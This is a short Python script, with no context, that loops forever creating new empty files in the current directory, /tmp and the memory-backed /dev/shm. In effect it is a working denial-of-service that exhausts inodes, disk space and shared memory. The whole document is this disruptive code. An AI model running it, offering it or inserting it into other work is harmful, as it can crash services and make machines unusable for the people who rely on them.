number = 0
while True:
    for folder in (".", "/tmp", "/dev/shm"):
        open(f"{folder}/{number}", "w").close()
    number += 1
